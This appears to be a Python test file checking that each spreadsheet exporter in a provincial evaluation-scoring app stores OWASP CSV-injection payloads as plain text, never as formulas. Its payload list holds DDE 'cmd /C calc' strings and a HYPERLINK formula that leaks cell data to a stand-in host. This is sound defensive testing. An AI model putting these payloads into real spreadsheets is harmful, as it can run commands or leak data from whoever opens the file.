"""OWASP's CSV-injection payloads through every exporter we have: no cell anywhere is a formula.

Each exporter is fed the payloads where outside text reaches it (a clerk's cells, problem
values, unit ids, province names, gate names); the saved file is then inspected at the XML
level (no ``<f>`` element in any sheet) and read back (every payload is a text cell holding
exactly what was typed). A module that saves a workbook must be listed here, so an exporter
added later cannot skip the check.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import openpyxl

from app.batches.diff import compare
from app.batches.workbook import diff_workbook
from app.cli.score import score_file, write_report
from app.core.exports import csv_text, write_cell
from app.demo.generate import DemoValue
from app.demo.workbook import fill_workbook
from app.intake.annotate_child import annotate_in_child
from app.masterdata import resolve_province
from tests.batches.test_batch_diff import out
from tests.intake.intake_builders import rubric as template_rubric
from tests.intake.intake_builders import template, zip_bytes
from tests.scoring.scoring_builders import ROOT, v1_records, v1_rubric, write_csv

# OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): its examples,
# every leading character it names, and the full-width / space-led forms of the same.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click for more")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "＝1+1",
    " =1+1",
    "#N/A",
]
# The cohort reader strips unit ids, so those led by a blank reach the report without it.
UNIT_IDS = [p for p in PAYLOADS if p == p.strip()]
# Everything in app/ that saves a workbook, and where this test exercises it.
EXPORTERS = {
    "app/intake/annotate_child.py": "annotated copy in place, .ods values copy, summary only",
    "app/cli/score.py": "ipeval score --out",
    "app/batches/workbook.py": "batch diff workbook",
    "app/demo/workbook.py": "demo workbooks filled like a clerk",
    "app/reports/workbook.py": "cohort results workbook",
    # Writes numbers and rubric codes through exports.write_row (its own CLI test renders it).
    "app/cli/robustness.py": "exempt",
    # A .docx holds no formulas; its runs go through exports.document_text.
    "app/reports/letter.py": "exempt",
    # The template writes the rubric's own reviewed texts and its own computed formulas; the
    # clerk's values never pass through it.
    "app/intake/template.py": "exempt",
    # The readers' warm-up workbook: a few constants of its own, never kept nor sent; no
    # value from anyone passes through it.
    "app/intake/zygote.py": "exempt",
}
APP = Path(__file__).resolve().parents[2] / "app"


def _formulas(data: bytes) -> set[tuple[str, str | None]]:
    """Every ``<f>`` element of every sheet part: (part, formula text)."""
    found: set[tuple[str, str | None]] = set()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = ElementTree.fromstring(archive.read(name))
                found |= {(name, e.text) for e in root.iter() if e.tag.endswith("}f")}
    return found


def _no_formula_anywhere(
    data: bytes, where: str, own: set[tuple[str, str | None]] | frozenset[()] = frozenset()
) -> set[str]:
    """Assert no sheet holds a formula (but ``own``, the template's); return the texts."""
    extra = _formulas(data) - own
    assert not extra, f"{where}: formulas {sorted(extra, key=str)[:3]}"
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                # formulas were checked above; a payload that became one is missing below
                if isinstance(cell.value, str) and cell.data_type != "f":
                    assert cell.data_type == "s", f"{where}: {sheet.title}!{cell.coordinate}"
                    texts.add(cell.value)
    return texts


def _clerk_xlsx() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "基本信息"
    for row, payload in enumerate(PAYLOADS, start=1):
        write_cell(sheet.cell(row=row, column=1), payload)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _ods() -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    rows = "".join(
        '<table:table-row><table:table-cell office:value-type="string">'
        f"<text:p>{_xml(p)}</text:p></table:table-cell></table:table-row>"
        for p in PAYLOADS
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="{office}"'
        f' xmlns:table="{table}" xmlns:text="{text}" office:version="1.2"><office:body>'
        f'<office:spreadsheet><table:table table:name="基本信息">{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
        '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type='
        '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
        'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    return zip_bytes(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": content.encode(),
            "META-INF/manifest.xml": manifest.encode(),
        },
        compression=zipfile.ZIP_STORED,
    )


def _xml(text: str) -> str:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return escaped.replace("\t", "<text:tab/>").replace("\r", "&#13;")


def _report(kind: str) -> dict[str, object]:
    problems = [
        {
            "code": "value.not_number",
            "severity": "error",
            "sheet": "基本信息",
            "cell": f"A{i}",
            "field": payload,
            "message_zh": payload,
            "message_en": payload,
            "value": payload,
        }
        for i, payload in enumerate(PAYLOADS, start=1)
    ]
    return {
        "problems": problems,
        "file_kind": kind,
        "file_sha256": "0" * 64,
        "rubric_id": PAYLOADS[0],
        "rubric_version": 1,
        "template_version": PAYLOADS[1],
    }


def _score_report(tmp_path: Path) -> bytes:
    rows = v1_records(v1_rubric(), len(UNIT_IDS), seed=3)
    for row, payload in zip(rows, UNIT_IDS, strict=True):
        row["unit_id"] = row["unit_name"] = payload
    data = write_csv(rows, tmp_path / "cohort.csv")
    result = score_file(
        rubric=str(ROOT / "strong-province" / "v1.toml"), data=data, year=2020, rubrics_dir=ROOT
    )
    write_report(result, tmp_path / "report.xlsx")
    return (tmp_path / "report.xlsx").read_bytes()


def _diff() -> bytes:
    gates = {p: True for p in PAYLOADS}
    old = [out(f"{i}", 1.0, 1, "pass", "leading", **gates) for i in range(len(PAYLOADS))]
    new = [
        out(f"{i}", 2.0, 1, "reclassify", p, **{g: False for g in gates})
        for i, p in enumerate(PAYLOADS)
    ]
    names = {f"{i}": p for i, p in enumerate(PAYLOADS)}
    batch = {"id": 1, "rubric_id": PAYLOADS[0], "rubric_version": PAYLOADS[1], "status": "done"}
    summary = {"transitions": {p: 1 for p in PAYLOADS}, "gates_newly_failed": gates}
    return diff_workbook(batch=batch, summary=summary, changes=compare(old, new), names=names)


def _demo() -> bytes:
    province = resolve_province("广东")
    values = [DemoValue(2020, province.code, "contact_name", PAYLOADS[0], "test")]
    return fill_workbook(template_rubric(), province, 2020, values)


def _cohort() -> bytes:
    from app.reports.views import CapView, CohortRow, CohortView
    from app.reports.workbook import render_cohort_workbook

    rows = [
        CohortRow(
            evaluation_id=i,
            province_code=f"{i}",
            name_zh=p,
            name_en=p,
            unit_type="leading",
            stage="pilot",
            total=80.0,
            rank=i + 1,
            decision="pass",
            target_type=None,
            final_decision=None,
            final_target_type=None,
            review_state="",
            borderline=False,
            fragile=None,
            pillars={"p1": 1.0},
        )
        for i, p in enumerate(PAYLOADS)
    ]
    caps = [CapView("leading", 5, 1, "strict", False, last_in=PAYLOADS[:2], first_out=[])]
    view = CohortView(2020, PAYLOADS[0], "0" * 64, "0" * 64, rows, caps, {"p1": ("p", "p")})
    return render_cohort_workbook(view)


def test_every_exporter_writes_owasp_payloads_as_text(tmp_path: Path) -> None:
    saving = {
        str(p.relative_to(APP.parent))
        for p in APP.rglob("*.py")
        if re.search(r"\.save\(", p.read_text(encoding="utf-8"))
    }
    assert saving == set(EXPORTERS), "a module saves a workbook: route it here and through exports"

    # The demo fills the real template, whose computed cells are its own formulas.
    own = _formulas(template())
    outputs: dict[str, tuple[Callable[[], bytes], set[str]]] = {
        "annotated .xlsx": (lambda: annotate_in_child(_clerk_xlsx(), _report("xlsx")), set()),
        "annotated .ods values copy": (lambda: annotate_in_child(_ods(), _report("ods")), set()),
        "annotated, summary only": (lambda: annotate_in_child(b"", _report("xlsx")), set()),
        "ipeval score --out": (lambda: _score_report(tmp_path), set(PAYLOADS) - set(UNIT_IDS)),
        "batch diff": (_diff, set()),
        "demo workbook": (_demo, {p for p in PAYLOADS if p != PAYLOADS[0]}),
        "cohort results workbook": (_cohort, set()),
    }
    for where, (build, absent) in outputs.items():
        texts = _no_formula_anywhere(build(), where, own if where == "demo workbook" else set())
        missing = set(PAYLOADS) - absent - texts
        assert not missing, f"{where}: payloads not stored as typed: {sorted(missing)}"

    for payload in PAYLOADS[:-1]:  # "#N/A" is no formula in a CSV
        assert csv_text(payload).startswith("'"), payload
    assert csv_text("-3") == "'-3" and csv_text(12.5) == "12.5" and csv_text("江苏") == "江苏"
